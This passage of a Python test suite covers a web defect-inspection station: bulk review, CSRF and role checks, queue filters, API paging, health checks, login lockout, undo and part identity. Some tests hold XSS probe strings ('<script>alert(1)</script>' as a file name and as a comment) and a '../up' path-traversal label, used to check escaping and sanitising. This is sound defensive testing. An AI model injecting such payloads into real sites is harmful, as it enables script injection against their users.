    reviewer; a part someone reviewed after the list was shown keeps that verdict and is counted as
    skipped; viewers cannot."""
    made = [explained(st, f"bulk-{k}.png", variant("scratch", 881 + k))["result_id"] for k in range(4)]
    reviewer, csrf = session("rita")
    page = reviewer.get("/bulk?cls=scratch&min=0")
    assert page.status_code == 200
    listed = [int(x) for x in re.search(r'name="ids" value="([0-9,]+)"', page.text).group(1).split(",")]
    assert set(made) <= set(listed)
    assert all(f'src="/parts/{i}/picture?what=overlay&amp;size=thumb"' in page.text for i in made)
    assert listed == sorted(listed, reverse=True)  # newest first
    form = {"cls": "scratch", "min": "0", "ids": ",".join(map(str, listed)), "csrf_token": csrf}
    untouched = count(st, reviews)
    for bad in ({"looked": ""}, {"looked": "1", "csrf_token": "forged"}):
        r = reviewer.post("/bulk/confirm", data={**form, **bad}, follow_redirects=False)
        assert r.status_code == 303
    viewer, viewer_csrf = session("vic")
    assert viewer.post("/bulk/confirm", data={**form, "looked": "1", "csrf_token": viewer_csrf},
                       follow_redirects=False).status_code == 403
    assert count(st, reviews) == untouched
    assert api_review(st, made[1], {"verdict": "overrule", "label": "pits"}, "rob").status_code == 201
    r = reviewer.post("/bulk/confirm", data={**form, "looked": "1"}, follow_redirects=False)
    assert r.status_code == 303
    shown = reviewer.get(r.headers["location"]).text
    assert f"confirmed {len(listed) - 1} part(s) as scratch; 1 skipped" in shown
    for rid in listed:
        rows = review_rows(st, rid)
        if rid == made[1]:
            assert [(x["reviewer"], x["verdict"], x["label"]) for x in rows] == [("rob", "overrule", "pits")]
        else:
            got = [(x["reviewer"], x["verdict"], x["label"], x["previous_label"], x["note"]) for x in rows]
            assert got == [("rita", "confirm", "scratch", "scratch", "bulk confirm")]
    # the list is empty now, and a message in a link is not shown unless the station signed it
    again = reviewer.get("/bulk?cls=scratch&min=0&done=confirmed+everything").text
    assert 'name="ids"' not in again and "confirmed everything" not in again


# ----- 10. hostile names --------------------------------------------------------------------------------
def test_hostile_file_names_are_escaped(st, session):
    hostile = "<script>alert(1)</script>.png"
    part = explained(st, hostile, variant("stain", 111))
    viewer, _ = session("vic")
    for url in ("/queue", f"/parts/{part['result_id']}", "/queue/rows"):
        page = viewer.get(url)
        assert page.status_code == 200
        assert "<script>alert(1)" not in page.text, url
    page = viewer.get("/queue").text
    assert "&lt;script&gt;" in page, "the part's file name is not shown (escaped) in the queue"


def test_upload_keeps_the_file_name(st):
    for k, name in enumerate(["lot#7 part ü.png", "<script>alert(1)</script>.png"]):
        body = explained(st, name, variant("scratch", 121 + k))
        assert os.path.basename(body["source"]) == name.replace("/", "_"), (name, body["source"])


def test_hostile_comment_is_escaped_on_the_part_page(st, session):
    part = explained(st, "crack-13.png", variant("crack", 131))
    assert api_review(st, part["result_id"], {"verdict": "confirm", "comment": "<script>alert(2)</script>"}
                      ).status_code == 201
    viewer, _ = session("vic")
    page = viewer.get(f"/parts/{part['result_id']}").text
    assert "<script>alert(2)" not in page
    assert "&lt;script&gt;alert(2)&lt;/script&gt;" in page


# ----- 11. queue ----------------------------------------------------------------------------------------
def test_queue_order_and_filters(st, session):
    crack = explained(st, "crack-14.png", variant("crack", 141))["result_id"]
    good = explained(st, "ok-14.png", variant("ok", 142))["result_id"]  # newer
    viewer, _ = session("vic")

    def rows(query=""):
        r = viewer.get("/queue/rows" + query)
        assert r.status_code == 200
        got = queue_rows(r.text)
        assert int(r.headers["X-Queue-Total"]) == len(got)
        return got

    default = rows()
    ids = [r["id"] for r in default]
    assert ids.index(crack) < ids.index(good)
    kinds = [r["kind"] for r in default]
    assert "good" in kinds and kinds == sorted(kinds, key=lambda k: k == "good")  # no reject after a good
    shown = count(st, results, results.c.status.in_(("done", "failed")))
    assert len(default) == shown

    newest = [r["id"] for r in rows("?order=newest")]
    assert newest.index(good) < newest.index(crack)
    assert newest == sorted(newest, reverse=True)  # ids grow with time here: one upload after another

    cracks = rows("?cls=crack")
    assert cracks and {r["cls"] for r in cracks} == {"crack"}
    assert crack in [r["id"] for r in cracks] and good not in [r["id"] for r in cracks]
    assert len(cracks) == count(st, results, results.c.prediction_name == "crack")

    assert crack in [r["id"] for r in rows("?unreviewed=1")]
    assert api_review(st, crack, {"verdict": "confirm"}).status_code == 201
    unreviewed = [r["id"] for r in rows("?unreviewed=1")]
    assert crack not in unreviewed and good in unreviewed
    reviewed = {r["result_id"] for r in db(st, sa.select(reviews.c.result_id))}
    assert not reviewed & set(unreviewed)

    page = viewer.get("/queue")
    assert f'<strong id="total">{shown}</strong>' in page.text


# ----- 12. paging ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("limit", [2, 3])
def test_api_results_paging_follows_next(st, limit):
    """Follow ``next`` to the end: every result once. Some results finish at the same instant (set here in
    the store), so that a page ends inside a run of equal times and the (since, after_id) cursor matters."""
    made = [explained(st, f"page-{k}.png", variant("pits", 151 + 10 * limit + k))["result_id"]
            for k in range(4)]
    with st.station.store.begin() as conn:
        same = conn.execute(sa.select(results.c.finished_at).where(results.c.id == made[0])).scalar_one()
        conn.execute(sa.update(results).where(results.c.id.in_(made)).values(finished_at=same))
    url, seen, pages, more = f"/api/v1/results?limit={limit}", [], 0, True
    while more:
        r = st.client.get(url, auth=basic("vic"))
        assert r.status_code == 200, r.text
        body = r.json()
        assert len(body["results"]) <= limit
        seen += [x["result_id"] for x in body["results"]]
        url, more = body["next"], body["more"]
        pages += 1
        assert pages < 1000
    assert len(seen) == len(set(seen))
    every = {r["id"] for r in db(st, sa.select(results.c.id).where(results.c.status.in_(("done", "failed"))))}
    assert set(seen) == every
    assert pages >= 2
    assert [i for i in seen if i in made] == made  # in the order they finished, then by id
    # the last page's next is a cursor too: polled later, it gives what finished since, and nothing else
    assert st.client.get(url, auth=basic("vic")).json()["results"] == []
    late = explained(st, f"page-late-{limit}.png", variant("pits", 951 + limit))["result_id"]
    polled = st.client.get(url, auth=basic("vic")).json()
    assert [x["result_id"] for x in polled["results"]] == [late] and polled["more"] is False
    assert st.client.get(polled["next"], auth=basic("vic")).json()["results"] == []


# ----- 13. health ---------------------------------------------------------------------------------------
def test_healthz(st):
    r = st.client.get("/healthz")
    assert r.status_code == 200
    assert r.json()["status"] == "ok" and r.json()["problems"] == []
    assert r.json()["version"] == inspector.__version__
    assert r.headers["X-Content-Type-Options"] == "nosniff"
    assert "script-src 'self'" in r.headers["Content-Security-Policy"]


# ----- the store under the station's feet -------------------------------------------------------------------
def test_a_replaced_store_file_takes_no_verdicts_and_fails_the_health_check(tmp_path):
    """The SQLite file replaced by a copy while the station runs (a restore, a careless rsync): open
    connections would keep writing to the old, unlinked file, so every verdict would vanish. The station
    refuses writes (503) and /healthz says why."""
    station = Station(StationSettings(config=CONFIG, out_dir=str(tmp_path / "st")))
    auth.add_user(station.store, "rita", PASSWORDS["rita"], "reviewer")
    with TestClient(create_app(station)) as client:
        made = client.post("/api/v1/explain", files={"image": ("crack.png", sample("crack"), "image/png")},
                           auth=basic("rita"))
        assert made.status_code == 201
        rid = made.json()["result_id"]
        assert client.get("/healthz").status_code == 200
        db = tmp_path / "st" / "results.db"
        copy = tmp_path / "copy.db"
        copy.write_bytes(db.read_bytes())
        os.replace(copy, db)  # same name, another file
        health = client.get("/healthz")
        assert health.status_code == 503 and "deleted or replaced" in " ".join(health.json()["problems"])
        refused = client.post(f"/api/v1/results/{rid}/review", json={"verdict": "confirm"},
                              auth=basic("rita"))
        assert refused.status_code == 503 and "restart" in refused.json()["detail"]
    engine = sa.create_engine(f"sqlite:///{db}")
    with engine.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(reviews)).scalar_one() == 0
    engine.dispose()


def test_export_folders_keep_labels_apart():
    """Labels in any script keep their letters; labels that would share a folder get one each."""
    from inspector.station.export import folder_names

    names = folder_names(["割れ", "異物", "Einschlüsse", "a b", "a_b", "../up", "labels.csv"])
    assert names["割れ"] == "割れ" and names["異物"] == "異物" and names["Einschlüsse"] == "Einschlüsse"
    assert len(set(names.values())) == 7
    assert names["a b"] != names["a_b"] and names["a b"].startswith("a_b-")
    assert names["../up"] == "up" and "/" not in "".join(names.values())


def test_a_taken_port_is_one_error_line_and_exit_2(tmp_path):
    import socket
    import subprocess
    import sys

    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
        r = subprocess.run([sys.executable, "-m", "inspector", "station", "-c", CONFIG, "--out",
                            str(tmp_path / "st"), "--port", str(port)], capture_output=True, text=True,
                           timeout=120, check=False)
    assert r.returncode == 2, r.stderr
    lines = r.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: --host 127.0.0.1 --port") and "--port" in lines[0]


def test_odd_addresses_get_answers_not_server_errors(st, session):
    """What the red-team pass found answering 500: ids beyond the database's integers, times no calendar
    holds, a saved part without a verdict, a label no configured class has on the shift page; and HEAD."""
    viewer, _ = session("vic")
    huge = "99999999999999999999"
    for url in (f"/parts/{huge}", f"/parts/{2**63}", f"/parts/1?saved={huge}", f"/queue?page={huge}",
                f"/queue/rows?page={huge}", "/queue?since=0001-01-01T00:00", "/shift?at=0001-01-01T00:00",
                "/shift?at=9999-12-31T23:00", "/shift?at=0001-01-01T00:00%2B00:00"):
        r = viewer.get(url)
        assert r.status_code in (404, 422), (url, r.status_code)
        assert "text/html" in r.headers["content-type"] and "Back to the queue" in r.text, url  # a page
    for url in (f"/api/v1/results/{huge}", f"/api/v1/reviews?after_id={huge}",
                "/api/v1/results?since=0001-01-01T00:00"):
        r = st.client.get(url, auth=basic("vic"))
        assert r.status_code in (404, 422) and "detail" in r.json(), (url, r.status_code)
    part = explained(st, "crack-70.png", variant("crack", 701))
    assert viewer.get(f"/parts/{part['result_id']}?saved={part['result_id']}").status_code == 200
    st.station.store.add_review(part["result_id"], verdict="overrule", label="dust", reviewer="rita")
    shift = viewer.get("/shift")
    assert shift.status_code == 200 and ">dust<" in shift.text  # counted in its own column
    assert st.client.head("/healthz").status_code == 200
    assert st.client.head("/", follow_redirects=False).status_code == 303


def test_password_guessing_is_slowed_down(st, monkeypatch):
    """Ten wrong passwords in ten minutes lock the user name for five minutes (the right password too),
    then it opens again."""
    from datetime import datetime, timedelta, timezone

    clock = [datetime(2031, 1, 1, tzinfo=timezone.utc)]  # the failures' clock (the database's otherwise)
    monkeypatch.setattr(auth, "clock", lambda _conn: clock[0])
    auth.add_user(st.station.store, "line9", "right-password", "reviewer")
    for _ in range(10):
        assert st.client.get("/api/v1/results", auth=("line9", "wrong-password")).status_code == 401
    locked = st.client.get("/api/v1/results", auth=("line9", "right-password"))
    assert locked.status_code == 429 and "too many wrong passwords" in locked.json()["detail"]
    clock[0] += timedelta(seconds=auth.LOCK_SECONDS + 1)
    assert st.client.get("/api/v1/results", auth=("line9", "right-password")).status_code == 200


def test_user_and_export_commands_never_answer_from_a_store_they_made(tmp_path):
    """A mistyped --out must not answer from a new, empty store (nor leave one behind); a missing
    --watch folder stops the start with exit 2; add-user refuses a short password before creating
    anything."""
    import subprocess
    import sys

    def station(*args, stdin=None):
        return subprocess.run([sys.executable, "-m", "inspector", "station", *args], capture_output=True,
                              text=True, timeout=120, check=False, input=stdin)

    typo = tmp_path / "typo"
    for args in (["list-users", "--out", str(typo)], ["export", str(tmp_path / "ds"), "--out", str(typo)],
                 ["disable-user", "ada", "--out", str(typo)]):
        r = station(*args)
        assert r.returncode == 2 and "no station store here" in r.stderr, (args, r.stderr)
    short = station("add-user", "ada", "--out", str(typo), "--password-stdin", stdin="short\n")
    assert short.returncode == 2 and "at least 8 characters" in short.stderr
    assert not typo.exists() and not (tmp_path / "ds").exists()
    r = station("-c", CONFIG, "--out", str(tmp_path / "st"), "--watch", str(tmp_path / "no-such-folder"))
    assert r.returncode == 2 and "--watch" in r.stderr and "no such folder" in r.stderr


def test_the_results_list_names_each_results_files(st):
    part = explained(st, "crack-80.png", variant("crack", 801))
    listed = st.client.get("/api/v1/results?limit=1000", auth=basic("vic")).json()["results"]
    mine = next(r for r in listed if r["result_id"] == part["result_id"])
    assert mine["artifacts"] == part["artifacts"] and "overlay" in mine["artifacts"]


def test_a_model_without_class_names_can_be_overruled_from_the_page(tmp_path):
    """Without ``classes:`` in the config the parts are labelled by class index; the page offers those
    indices for an overrule, and the form records one."""
    import yaml

    with open(CONFIG) as f:
        raw = yaml.safe_load(f)
    raw.pop("classes"), raw.pop("good_classes")
    raw["model"] = os.path.join(EXAMPLE, raw["model"])
    config = tmp_path / "no_names.yaml"
    config.write_text(yaml.safe_dump(raw))
    station = Station(StationSettings(config=str(config), out_dir=str(tmp_path / "st")))
    auth.add_user(station.store, "rita", PASSWORDS["rita"], "reviewer")
    with TestClient(create_app(station)) as client:
        made = client.post("/api/v1/explain", files={"image": ("crack.png", sample("crack"), "image/png")},
                           auth=basic("rita"))
        rid = made.json()["result_id"]
        assert made.json()["prediction"] == "2"  # crack is class 2
        client.get("/login")
        client.post("/login", data={"username": "rita", "password": PASSWORDS["rita"],
                                    "token": client.cookies["sise_login"]})
        html = client.get(f"/parts/{rid}").text
        assert '<option value="0">0</option>' in html and '<option value="2">' not in html
        form = {"verdict": "overrule", "label": "0", "csrf_token": CSRF_META.search(html).group(1)}
        r = client.post(f"/parts/{rid}/review", data=form, follow_redirects=False)
        assert r.status_code == 303 and "saved=" in r.headers["location"], r.headers["location"]
        history = client.get(f"/api/v1/results/{rid}", auth=basic("rita")).json()["history"]
    assert [(x["label"], x["previous_label"]) for x in history] == [("0", "2")]


def test_the_station_serves_the_one_stylesheet_the_documents_inline(st):
    from inspector.common import documents

    r = st.client.get("/static/station.css")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/css")
    assert r.text == documents.stylesheet() and "table.queue" in r.text
    assert st.client.get("/static/station.js").status_code == 200  # the rest of /static still served


# ----- undo, failed parts, pictures, the reference part ------------------------------------------------
def _form(client, url: str, csrf: str, **data):
    """POST a page's form; (where it sends the browser, the page shown there)."""
    r = client.post(url, data={"csrf_token": csrf, **data}, follow_redirects=False)
    assert r.status_code == 303, r.text
    return r.headers["location"], client.get(r.headers["location"]).text


def test_undo_takes_back_the_reviewers_last_verdict_as_a_new_row(st, session):
    """u (POST /undo) takes back the reviewer's own newest verdict, newest first, and shows that part;
    the part is unreviewed again when nothing stands; nothing is deleted; someone else's later verdict
    refuses it; CSRF and the role hold."""
    a, b = (explained(st, f"undo-{k}.png", variant("pits", 901 + k))["result_id"] for k in range(2))
    ulla, csrf = session("ulla")
    for part in (a, b):
        _form(ulla, f"/parts/{part}/review", csrf, verdict="confirm", seen="0")
    assert _form(ulla, "/undo", "forged", back="/queue")[1].count("nothing was recorded") == 1
    where, page = _form(ulla, "/undo", csrf, back="/queue")
    assert where.startswith(f"/parts/{b}?")
    assert f"undone: your verdict (confirm -&gt; pits) on part #{b}; it is now no verdict: to review" in page
    assert "confirm (undone)" in page and "pits → no verdict" in page
    unreviewed = [r["id"] for r in queue_rows(ulla.get("/queue/rows?unreviewed=1&order=newest").text)]
    assert b in unreviewed and a not in unreviewed
    api_review(st, a, {"verdict": "overrule", "label": "crack"}, "rob")  # rob's verdict after ulla's on a
    _, page = _form(ulla, "/undo", csrf, back=f"/parts/{b}")
    assert f"nothing was undone: rob gave a verdict on part #{a} after yours" in page
    assert [(r["reviewer"], r["verdict"], r["undoes"]) for r in review_rows(st, b)] == [
        ("ulla", "confirm", None), ("ulla", "undo", review_rows(st, b)[0]["id"])]
    assert [r["reviewer"] for r in review_rows(st, a)] == ["ulla", "rob"]
    viewer, viewer_csrf = session("vic")
    assert viewer.post("/undo", data={"csrf_token": viewer_csrf}, follow_redirects=False).status_code == 403
    # the line's API: the same rule, the row in the verdict feed
    assert api_review(st, b, {"verdict": "inconclusive"}, "ulla").status_code == 201
    undone = st.client.post("/api/v1/undo", auth=basic("ulla"))
    assert undone.status_code == 201 and undone.json()["verdict"] == "undo" and undone.json()["label"] is None
    assert st.client.post("/api/v1/undo", auth=basic("ulla")).status_code == 409  # a's is behind rob's
    feed = st.client.get("/api/v1/reviews", params={"after_id": undone.json()["review_id"] - 1},
                         auth=basic("vic")).json()["reviews"]
    assert [(r["verdict"], r["undoes"]) for r in feed] == [("undo", undone.json()["undoes"])]
    assert st.client.post("/api/v1/undo", auth=basic("vic")).status_code == 403


def test_a_failed_part_is_acknowledged_or_explained_again(st, session, monkeypatch):
    """A part that failed to explain: listed under the failed filter (not as 'to review'), its page gives
    the reason and where the file is now; acknowledge and explain again are recorded like verdicts; a
    failure of the engine explained again becomes an explained part."""
    from inspector.jobs import record

    broken = upload(st.client, "broken-91.png", png_header_only(30, 30) + b"failed test").json()["result_id"]
    calls = []

    def out_of_memory(insp, images, target, names):
        calls.append(names)
        return [RuntimeError("CUDA out of memory (simulated)") for _ in images]

    monkeypatch.setattr(record, "_explain_images", out_of_memory)
    data = variant("crack", 911)
    oom = upload(st.client, "oom-91.png", data).json()
    assert oom["status"] == "failed" and len(calls) == 1
    monkeypatch.undo()
    rita, csrf = session("rita")
    failed = {r["id"]: r for r in queue_rows(rita.get("/queue/rows?failed=1&order=newest").text)}
    assert {broken, oom["result_id"]} <= set(failed) and {r["kind"] for r in failed.values()} == {"failed"}
    assert not any(r["kind"] == "failed" for r in queue_rows(rita.get("/queue/rows?unreviewed=1").text))
    page = rita.get(f"/parts/{broken}").text
    assert "not a readable image" in page and "not acknowledged" in page
    kept = sha256(png_header_only(30, 30) + b"failed test")
    where_now = os.path.join(st.out, UPLOAD_DIR, kept, "broken-91.png")
    assert f"The file is now: <code>{where_now}</code>" in page

    _, page = _form(rita, f"/parts/{broken}/acknowledge", csrf, comment="camera cable loose", seen="0")
    rows = review_rows(st, broken)
    assert [(r["verdict"], r["label"], r["note"]) for r in rows] == [
        ("acknowledge", None, "camera cable loose")]
    listed = rita.get("/queue/rows?failed=1&order=newest").text
    row_html = listed.split(f'data-id="{broken}"')[1].split("</tr>")[0]
    assert "failure acknowledged" in row_html and "rita" in row_html
    _, page = _form(rita, f"/parts/{broken}/explain-again", csrf)
    assert "failed again:" in page and "not a readable image" in page
    assert review_rows(st, broken)[-1]["verdict"] == "explain_again"
    _, page = _form(rita, f"/parts/{broken}/review", csrf, verdict="confirm", seen="0")
    assert count(st, reviews, reviews.c.result_id == broken, reviews.c.verdict == "confirm") == 0

    where, page = _form(rita, f"/parts/{oom['result_id']}/explain-again", csrf)
    assert where.startswith(f"/parts/{oom['result_id']}?")
    assert "explained: the part now has its explanation" in page and 'id="review"' in page
    again = st.client.get(f"/api/v1/results/{oom['result_id']}", auth=basic("vic")).json()
    expected = Inspector.from_config(CONFIG).explain(rgb(data))
    assert again["status"] == "done" and again["prediction"] == st.station.classes[expected.predicted]
    assert [(r["verdict"], r["reviewer"]) for r in review_rows(st, oom["result_id"])] == [
        ("explain_again", "rita")]
    unreviewed = queue_rows(rita.get("/queue/rows?unreviewed=1&order=newest").text)
    assert oom["result_id"] in [r["id"] for r in unreviewed]


def test_pictures_are_bounded_previews_until_zoomed_and_full_resolution_after(st, session):
    """A 2400x1800 part: the page's pictures are 1600 px previews (the original's bytes only at full
    size), thumbnails 192 px; the full overlay has the original's size and is the overlay file's image
    area (found here from the file's bottom-left corner, not by the station's own geometry)."""
    rng = np.random.default_rng(3)
    big = cv2.resize(cv2.imdecode(np.frombuffer(sample("scratch"), np.uint8), cv2.IMREAD_COLOR), (2400, 1800))
    big = np.clip(big.astype(int) + rng.integers(-3, 4, big.shape), 0, 255).astype(np.uint8)
    data = cv2.imencode(".png", big)[1].tobytes()
    part = explained(st, "big-scratch.png", data)["result_id"]
    viewer, _ = session("vic")
    page = viewer.get(f"/parts/{part}").text
    assert 'data-width="2400" data-height="1800"' in page

    def shape(url):
        r = viewer.get(url)
        assert r.status_code == 200, (url, r.text)
        return r, cv2.imdecode(np.frombuffer(r.content, np.uint8), cv2.IMREAD_COLOR)

    for what in ("original", "overlay"):
        assert shape(f"/parts/{part}/picture?what={what}&size=preview")[1].shape == (1200, 1600, 3)
        assert shape(f"/parts/{part}/picture?what={what}&size=thumb")[1].shape == (144, 192, 3)
    full, _ = shape(f"/parts/{part}/picture?what=original&size=full")
    assert full.content == data
    _, cut = shape(f"/parts/{part}/picture?what=overlay&size=full")
    drawn = cv2.imread(os.path.join(st.out, review_overlay_path(st, part)), cv2.IMREAD_COLOR)
    assert cut.shape == (1800, 2400, 3)
    assert np.abs(cut.astype(int) - drawn[-1800:, :2400].astype(int)).mean() < 2.0  # JPEG, quality 92
    preview_bytes = sum(len(viewer.get(f"/parts/{part}/picture?what={w}&size=preview").content)
                        for w in ("original", "overlay"))
    assert preview_bytes < len(data) / 4


def review_overlay_path(st, part: int) -> str:
    return db(st, sa.select(artifacts.c.path).where(artifacts.c.result_id == part,
                                                     artifacts.c.kind == "overlay"))[0]["path"]


def test_the_reference_part_is_the_last_one_labelled_good_or_the_golden_image(st, session, tmp_path):
    """Key r's picture: the part most recently labelled good of the same product and camera (any part
    for a part without them), or the golden image given for its product/camera, product, or any part."""
    gear = {"product": "gear", "camera": "cam2"}

    def sent(name, data, **identity):
        r = st.client.post("/api/v1/explain", files={"image": (name, data, "image/png")}, data=identity,
                           auth=basic("rita"))
        assert r.status_code in (200, 201), r.text
        return r.json()["result_id"]

    reject = sent("ref-crack.png", variant("crack", 931), **gear)
    plain_reject = sent("ref-crack-2.png", variant("crack", 933))
    good_gear = sent("ref-ok.png", variant("ok", 932), **gear)
    good_shaft = sent("ref-ok-2.png", variant("ok", 934), product="shaft", camera="cam2")
    for good in (good_gear, good_shaft):  # the shaft part is labelled good last
        assert api_review(st, good, {"verdict": "confirm"}, "rob").status_code == 201
    viewer, _ = session("vic")
    page = viewer.get(f"/parts/{reject}").text
    assert f'data-src="/parts/{good_gear}/picture?what=original&amp;size=preview"' in page
    assert f"Reference: part #{good_gear}, labelled ok by rob" in page
    assert f"Reference: part #{good_shaft}," in viewer.get(f"/parts/{plain_reject}").text
    assert viewer.get(f"/parts/{good_gear}/picture?what=original&size=preview").status_code == 200

    golden, golden_gear = tmp_path / "golden.png", tmp_path / "gear.png"
    golden.write_bytes(sample("ok"))
    golden_gear.write_bytes(sample("stain"))
    settings = StationSettings(config=CONFIG, out_dir=str(tmp_path / "g"),
                               reference=parse_references([str(golden), f"gear/cam2={golden_gear}"]))
    station = Station(settings, insp=st.station.insp)
    auth.add_user(station.store, "vic", PASSWORDS["vic"], "viewer")
    with TestClient(create_app(station)) as client:
        plain = station.explain_upload(sample("crack"), "c.png").result_id
        geared = station.explain_upload(sample("pits"), "p.png", make_identity(**gear)).result_id
        client.get("/login")
        client.post("/login", data={"username": "vic", "password": PASSWORDS["vic"],
                                    "token": client.cookies.get("sise_login")})
        page = client.get(f"/parts/{plain}").text
        assert "Reference: golden image golden.png<" in page
        assert 'data-src="/reference?key=&amp;size=preview"' in page
        page = client.get(f"/parts/{geared}").text
        assert "Reference: golden image gear.png (gear/cam2)" in page
        for key, name in (("", "ok"), ("gear/cam2", "stain")):
            got = client.get("/reference", params={"key": key}).content
            served = cv2.imdecode(np.frombuffer(got, np.uint8), cv2.IMREAD_COLOR)
            diff = {other: np.abs(served.astype(int) - cv2.imdecode(np.frombuffer(sample(other), np.uint8),
                                                                     cv2.IMREAD_COLOR).astype(int)).mean()
                    for other in ("ok", "stain", "crack")}
            assert diff[name] < 5 < 2 * diff[name] < min(v for k, v in diff.items() if k != name), diff
        assert client.get("/reference", params={"key": "shaft"}).status_code == 404
    golden.write_bytes(b"not an image")
    with pytest.raises(inspector.errors.InspectorError, match="--reference .*golden.png"):
        Station(settings, insp=st.station.insp)
    assert parse_references(["/data/x=1.png", "gear=/a.png", "gear/cam2=b.png"]) == (
        ("", "/data/x=1.png"), ("gear", "/a.png"), ("gear/cam2", "b.png"))
    with pytest.raises(inspector.errors.InspectorError, match="given twice"):
        parse_references(["a.png", "=b.png"])


# ----- part identity ------------------------------------------------------------------------------------
def test_parts_carry_their_identity_through_the_api_the_pages_and_the_export(st, session):
    """Serial, line, camera, product and tags sent with an image are stored with the part, shown on its
    page and in the queue, searchable (serial box, line/camera/product filters, ?serial= in the API) and
    in the dataset export. The same bytes under a second serial: a second part of the same result, the
    explanation not computed again. A field with control characters: 422, nothing stored."""
    data = variant("scratch", 951)

    def send(serial, **more):
        return st.client.post("/api/v1/explain", files={"image": ("cam.png", data, "image/png")},
                              data={"serial": serial, **more}, auth=basic("rita"))

    first = send("SN-951-A", line="L7", camera="top", product="gear", tags="rework, night")
    assert first.status_code == 201, first.text
    body = first.json()
    assert body["identity"] == {"serial": "SN-951-A", "line": "L7", "camera": "top", "product": "gear",
                                "tags": ["rework", "night"]}
    explained_before = metrics(st)["sise_parts_explained_total"]
    second = send("SN-951-B", line="L7", camera="top", product="gear")
    assert second.status_code == 200 and second.json()["result_id"] == body["result_id"]
    assert metrics(st)["sise_parts_explained_total"] == explained_before  # not explained again
    assert send("SN-951-A", line="L7", camera="top", product="gear", tags="rework, night").status_code == 200
    rid = body["result_id"]
    stored = db(st, sa.select(parts.c.serial, parts.c.tags).where(parts.c.result_id == rid)
                .order_by(parts.c.id))
    assert [(r["serial"], r["tags"]) for r in stored] == [("SN-951-A", ["rework", "night"]),
                                                          ("SN-951-B", None)]

    refused = send("SN\x00951")
    assert refused.status_code == 422 and "serial: control characters" in refused.text

    found = st.client.get("/api/v1/results", params={"serial": "SN-951-B"}, auth=basic("vic")).json()
    assert [r["result_id"] for r in found["results"]] == [rid]
    assert [p["serial"] for p in found["results"][0]["parts"]] == ["SN-951-A", "SN-951-B"]
    assert "serial=SN-951-B" in found["next"]
    assert st.client.get("/api/v1/results", params={"serial": "SN-nobody"}, auth=basic("vic")).json()[
        "results"] == []

    viewer, _ = session("vic")
    page = viewer.get(f"/parts/{rid}").text
    assert 'Serial <strong class="serial">SN-951-B</strong>' in page
    assert "also arrived as: Serial <strong class=\"serial\">SN-951-A</strong>" in page
    assert '<span class="tag">rework</span>' in page
    for query in ("serial=SN-951-A", "line=L7", "camera=top&product=gear", "serial=SN-951-B&line=L7"):
        assert [r["id"] for r in queue_rows(viewer.get(f"/queue/rows?{query}").text)] == [rid], query
    assert queue_rows(viewer.get("/queue/rows?serial=SN-951-A&line=L8").text) == []
    queue = viewer.get("/queue").text
    assert '<option value="L7" >L7</option>' in queue or '<option value="L7">L7</option>' in queue

    assert api_review(st, rid, {"verdict": "confirm"}).status_code == 201
    admin, _ = session("ada")
    archive = zipfile.ZipFile(io.BytesIO(admin.get("/export.zip").content))
    labels = list(csv.DictReader(io.StringIO(archive.read(next(
        n for n in archive.namelist() if n.endswith("labels.csv"))).decode())))
    row = next(r for r in labels if r["image_sha256"] == sha256(data))
    assert (row["serial"], row["line"], row["tags"]) == ("SN-951-A;SN-951-B", "L7", "rework;night")
